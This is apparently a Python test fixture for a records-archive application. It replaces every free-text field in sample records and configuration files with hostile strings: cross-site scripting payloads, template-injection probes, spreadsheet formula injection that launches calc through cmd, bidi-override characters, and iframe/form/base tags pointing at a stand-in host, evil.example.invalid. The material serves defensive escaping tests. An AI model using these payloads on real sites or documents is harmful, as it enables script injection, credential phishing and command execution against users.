"""A part of the sample with a hostile text in place of every text that people write."""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

from samples import ARCHIVE, SAMPLE

from record_keeper.fields.base import Field, FieldType
from record_keeper.fields.composite import Group, ListOf
from record_keeper.fields.text import LongText, Text
from record_keeper.layout import is_configuration
from record_keeper.marks import rank
from record_keeper.record import Record
from record_keeper.yaml_text import render

REGISTERS = (
    "departments",
    "staff",
    "customers",
    "contacts",
    "complaints",
    "access-requests",
    "loans",
    "visits",
    "acknowledgements",
)
RAN = "window.ran=1"
HOSTILE = (
    f"<script>{RAN}</script>",
    f'"><img src=x onerror="{RAN}">',
    f"' onfocus='{RAN}' autofocus='",
    f"</script></style></title></textarea><script>{RAN}</script>",
    f"</div></article></main><svg/onload={RAN}>",
    "{{ 7*7 }} {% raw %} ${7*7} <%= 7*7 %> {# x #}",
    f"[点我](javascript:{RAN}) javascript:{RAN}",
    "]]> <![CDATA[ <!-- --!> <?php ?>",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "&lt;b&gt; &amp;amp; &#x3c;i&#x3e; %3Cscript%3E",
    "<base href=//evil.example.invalid/><link rel=stylesheet href=//evil.example.invalid/x>",
    "<iframe src=//evil.example.invalid></iframe><form action=//evil.example.invalid><button>登录",
    "![x](//evil.example.invalid/a.png) [x]: //evil.example.invalid *[公开]: x",
    "<style>*{display:none}</style>",
    "# 标题 | 甲 | 乙 {: onclick=alert(1) } [TOC] [^1] ```",
    '\\u003cscript\\u003e `"]);alert(1)//',
    "<!--rk:body--> <mark>假</mark> ␟ __proto__ constructor",
)
REFUSED = {
    "records/customers/2025/KH-2025-0998.yaml": "id: KH-2025-0998\nname: \u202e甲\u2066乙\u2028丙\n",
    "records/customers/2025/KH-2025-0999.yaml": 'id: KH-2025-0999\nname: "\\u202e甲\\u2066乙\\u2028丙"\n',
    "records/customers/2025/KH-2025-0997.yaml": "id: KH-2025-0997\nclass: <svg/onload=window.ran=1>\nsecrecy: {level: internal}\n",
}
"""Records that the check refuses: what turns the order of letters around, a line end that scripts trip over."""


class Poisoned:
    """The texts of the archive (`files`), and what was planted for all to see: (id, field) -> the text."""

    def __init__(self) -> None:
        self.planted: dict[tuple[str, str], str] = {}
        self._count = 7000
        self.files = dict(self._files())

    def _files(self) -> Iterator[tuple[str, str]]:
        for path, data in SAMPLE.items():
            if is_configuration(path):
                yield path, configured(path, data.decode())
        yield from REFUSED.items()
        for name in REGISTERS:
            for record in ARCHIVE.records(name).values():
                yield record.path, self._record(record)

    def _record(self, record: Record) -> str:
        fields, written = record.register.fields, record.register.shape.write(record.values, "en")
        for name, value in written.items():
            if name not in ("id", "state", "secrecy"):
                written[name] = self._poisoned(fields[name].type, value)
                if (
                    isinstance(written[name], str)
                    and written[name] != value
                    and not _kept(record, fields[name])
                ):
                    self.planted[record.id, name] = written[name]
        return render(written)

    def _poisoned(self, type: FieldType, value: Any) -> Any:
        match type, value:
            case Group(), dict():
                return {name: self._poisoned(type.fields[name].type, each) for name, each in value.items()}
            case ListOf(), list():
                return [self._poisoned(type.item, each) for each in value]
            case ((Text() | LongText()), str()):
                self._count += 1
                return f"{HOSTILE[self._count % len(HOSTILE)]} 敌{self._count}"
        return value


def _kept(record: Record, field: Field) -> bool:
    """Whether a text is kept from readers of internal files."""
    return max(rank(record["secrecy"]["level"]), rank(field.secrecy or "public")) > rank("internal")


def configured(path: str, text: str) -> str:
    """A file of the configuration: fewer registers, and hostile words where it may have any words."""
    match path:
        case "records/archive.yaml":
            kept = text.partition("\nregisters:")[0].replace("佛山市锻柏五金制品有限公司", quoted(0))
            kept = kept.replace("language: zh", "language: en")  # the records are written by keys
            return f"{kept}\nregisters: [{', '.join(REGISTERS)}]\n"
        case "records/complaints/register.yaml":
            return text.replace("title: 客户投诉登记册", f"title: {quoted(1)}")
        case "records/customers/register.yaml":
            return text.replace("help: 与营业执照一致的全称", f"help: {quoted(4)}")
        case "policies/complaint-handling.md":
            titled = text.replace("title: 客户投诉处理制度", f"title: {quoted(3)}")
            first, anchor, rest = titled.partition("{#8}\n")
            return first + anchor + "\n" + "\n\n".join(HOSTILE) + "\n" + rest
    return text


def quoted(number: int) -> str:
    """One of the hostile texts as YAML."""
    return "'" + HOSTILE[number].replace("'", "''") + "'"
